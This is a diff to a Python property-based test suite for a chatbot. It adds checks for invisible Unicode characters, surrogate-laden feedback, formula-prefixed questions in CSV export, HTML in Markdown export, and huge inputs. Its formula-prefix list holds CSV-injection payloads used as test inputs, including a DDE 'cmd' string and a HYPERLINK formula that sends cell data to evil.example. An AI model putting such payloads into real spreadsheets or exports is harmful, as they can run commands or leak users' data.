@@ -4,7 +4,12 @@ Property-based (hypothesis, derandomized): over 10,000 generated questions in to
 whitespace-only text, 100,000-character strings, control and NUL bytes, lone surrogates,
 right-to-left and CJK text, emoji, Markdown and HTML/script, SQL- and template-like strings,
 prompt-injection phrasing, each mixed with real questions — go through
-``Chatbot(settings).conversation().ask(...)``. For every one:
+``Chatbot(settings).conversation().ask(...)``. Issue 14 added families for what its round
+found: zero-width and bidirectional characters inside words (the answer must be the clean
+question's), lone surrogates and control characters in feedback records (stored, bounded,
+never an exception), questions starting like spreadsheet formulas (the figures CSV shows them
+as text), HTML and link syntax in questions (the Markdown export renders none of it), and
+multi-megabyte API inputs (cut at the limit in milliseconds). For every question:
 
 - no exception escapes, and the result is a well-formed ``Answer``;
 - empty or whitespace-only input gets the "Please ask a question" answer, ``answered`` False;
@@ -52,6 +57,7 @@ N = {
     "blank": 400, "long": 120, "control": 1300, "unicode": 1300, "markup": 1300,
     "sql_template": 1000, "injection": 1300, "real": 1300, "arbitrary": 1000,
     "conversation": 400, "determinism": 800, "dense": 500, "cli": 150,
+    "zero_width": 600, "feedback": 300, "formula": 500, "export_html": 500, "huge": 40,
 }
 REQUIRED_TOTAL = 10_000
 COUNTS: Counter[str] = Counter()
@@ -164,6 +170,14 @@ SURROGATES = ["\ud800", "\udfff", "\udc80\udc81", "\ud83d", "\ud83d\ude00"[::-1]
 WHITESPACE = " \t\n\r\x0b\x0c\x1c\x1d\x1e\x1f\x85\xa0\u1680\u2000\u2001\u2002\u2003\u2004\u2005" \
     "\u2006\u2007\u2008\u2009\u200a\u2028\u2029\u202f\u205f\u3000"
 assert all(ch.isspace() for ch in WHITESPACE)
+
+#: Invisible format characters: zero-width space, non-joiner, joiner, word joiner, byte-order
+#: mark, soft hyphen, bidirectional overrides and isolates, Mongolian vowel separator.
+INVISIBLE = ["\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u202e", "\u202d",
+             "\u2066", "\u2069", "\u200e", "\u200f", "\u180e"]
+#: What makes a spreadsheet read a cell as a formula (OWASP "CSV injection"), full-width too.
+FORMULA_PREFIXES = ["=", "+", "-", "@", "\t", "\r", " =", "=cmd|' /C calc'!", "＝", "＋", "－", "＠",
+                    "%", "|", "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "@SUM(", "-2+3+"]
 
 real = st.sampled_from(REAL)
 words_ = st.text(alphabet=st.characters(categories=["L", "N"]), min_size=1, max_size=12)
@@ -330,9 +344,15 @@ def test_control_bytes_and_surrogates(bot, q):
     ask(bot, q, "control")
 
 
-@pytest.mark.parametrize("sep", ["\x00", "\x01", "\x1b", "\x7f", "\u200b", "\u202e", "\ufeff"])
+@pytest.mark.parametrize("sep", ["\x00", "\x01", "\x1b", "\x7f", "\x85", "\t"])
 def test_control_characters_between_words_are_spaces(bot, sep):
     ans = bot.conversation().ask(sep.join("What is the average salary?".split(" ")))
+    assert SALARY in ans.text and ans.answered
+
+
+@pytest.mark.parametrize("mark", INVISIBLE)
+def test_invisible_characters_inside_words_do_not_split_them(bot, mark):
+    ans = bot.conversation().ask(f"What is the aver{mark}age sal{mark}ary?")
     assert SALARY in ans.text and ans.answered
 
 
@@ -429,6 +449,127 @@ def test_dense_path_every_family(dense_bot, q):
 def test_dense_bot_answers_prose(dense_bot):
     ans = dense_bot.conversation().ask("What does the snapshot say about NHS procurement?")
     assert ans.answered and ans.kind == "prose" and "procurement" in ans.text.lower()
+
+
+# --------------------------------------------------------------------------- issue 14 families
+
+
+def _sprinkle(text: str, marks: list[str], where: list[int]) -> str:
+    """``text`` with invisible ``marks`` put inside its words at positions ``where``."""
+    out = list(text)
+    for mark, at in zip(marks, where, strict=False):
+        i = at % len(out)
+        if out[i].isalnum():
+            out.insert(i, mark)
+    return "".join(out)
+
+
+@_hypo(N["zero_width"])
+@given(q=real, marks=st.lists(st.sampled_from(INVISIBLE), min_size=1, max_size=8),
+       where=st.lists(st.integers(min_value=0, max_value=400), min_size=8, max_size=8))
+def test_zero_width_characters_inside_words_change_nothing(bot, q, marks, where):
+    hidden = _sprinkle(q, marks, where)
+    ans = ask(bot, hidden, "zero_width")
+    clean = bot.conversation().ask(q)
+    assert (ans.text, ans.kind, ans.citations) == (clean.text, clean.kind, clean.citations), hidden
+
+
+@pytest.fixture(scope="module")
+def store(tmp_path_factory):
+    from chatbot.feedback import FeedbackStore
+
+    return FeedbackStore(tmp_path_factory.mktemp("hostile-feedback") / "feedback.sqlite3")
+
+
+surrogate_text = st.text(alphabet=st.characters(categories=["Cs", "Cc", "Cf", "Co", "L", "Zs"]),
+                         max_size=80)
+
+
+@_hypo(N["feedback"])
+@given(question=st.one_of(surrogate_text, real), comment=st.one_of(
+           surrogate_text, st.builds(lambda u, n: u * n, surrogate_text.filter(bool),
+                                     st.integers(min_value=1, max_value=200_000))),
+       session=surrogate_text)
+def test_feedback_with_surrogates_and_huge_comments_is_stored(bot, store, question, comment, session):
+    from chatbot.feedback import FeedbackRecord
+    from chatbot.inputs import MAX_COMMENT_CHARS
+
+    COUNTS["feedback"] += 1
+    ans = bot.conversation().ask(question)
+    row = store.add(FeedbackRecord.for_answer(question, ans, 0, comment, session, "id"))
+    assert row > 0
+    with store._connect() as con:
+        stored, kept_q = con.execute("SELECT comment, question FROM feedback WHERE id = ?",
+                                     (row,)).fetchone()
+    assert len(stored) <= MAX_COMMENT_CHARS
+    assert not any(0xD800 <= ord(ch) <= 0xDFFF for ch in stored + kept_q)
+    stored.encode("utf-8")
+
+
+@_hypo(N["formula"])
+@given(prefix=st.sampled_from(FORMULA_PREFIXES), tail=st.one_of(junk, words_, st.just("")),
+       question=st.sampled_from(["What is the average salary?", "How many FDI jobs were there?"]))
+def test_formula_prefixed_questions_are_text_in_the_csv(bot, prefix, tail, question):
+    import csv
+    import io
+
+    from chatbot import export
+
+    q = f"{prefix}{tail} {question}"
+    ans = ask(bot, q, "formula")
+    out = export.figures_csv([{"role": "user", "content": q},
+                              {"role": "assistant", "content": ans.text, "answer": ans}],
+                             bot.corpus.table)
+    rows = list(csv.reader(io.StringIO(out, newline="")))
+    assert len(rows) >= 2, (q, ans.text)  # a figure was quoted, so the question is in the file
+    for row in rows[1:]:
+        assert len(row) == len(export.FIGURE_COLUMNS), row
+        for cell in row:
+            assert not cell.lstrip(" ").startswith(export.FORMULA_START) or re.fullmatch(
+                r"[+-]?[£$]?[\d,.]+%?", cell.strip()), (q, cell)
+
+
+@_hypo(N["export_html"])
+@given(q=st.one_of(markup_text, _joined(st.sampled_from(HTML + MARKDOWN), real)))
+def test_html_in_questions_renders_as_text_in_the_markdown_export(bot, q):
+    from html.parser import HTMLParser
+
+    from markdown_it import MarkdownIt
+
+    from chatbot import export
+
+    class Tags(HTMLParser):
+        found: list = []
+
+        def handle_starttag(self, tag, attrs):
+            self.found.append((tag, dict(attrs)))
+
+    ans = ask(bot, q, "export_html")
+    md = export.conversation_markdown([{"role": "user", "content": q},
+                                       {"role": "assistant", "content": ans.text, "answer": ans}],
+                                      f"Snapshot {q}")
+    tags = Tags()
+    tags.found = []
+    tags.feed(MarkdownIt("commonmark", {"html": True}).render(md))
+    for tag, attrs in tags.found:
+        assert tag in {"h1", "h2", "p", "ul", "ol", "li", "blockquote", "strong", "em", "code",
+                       "hr", "br", "pre", "h3", "h4", "h5", "h6"}, (q, tag, attrs)
+
+
+@_hypo(N["huge"])
+@given(unit=st.one_of(any_family.filter(bool), real), megabytes=st.integers(min_value=1, max_value=20))
+def test_huge_api_inputs_are_cut_in_milliseconds(bot, unit, megabytes):
+    import time
+
+    size = megabytes * 1_000_000
+    q = (unit * (size // len(unit) + 1))[:size]
+    conv = bot.conversation()
+    t0 = time.perf_counter()
+    ans = conv.ask(q)
+    took = time.perf_counter() - t0
+    check_answer(bot, q, ans, "huge")
+    assert took < 0.5, (megabytes, took)
+    assert len(conv.history[-1][0]) <= bot.settings.max_question_chars
 
 
 # --------------------------------------------------------------------------- the CLI
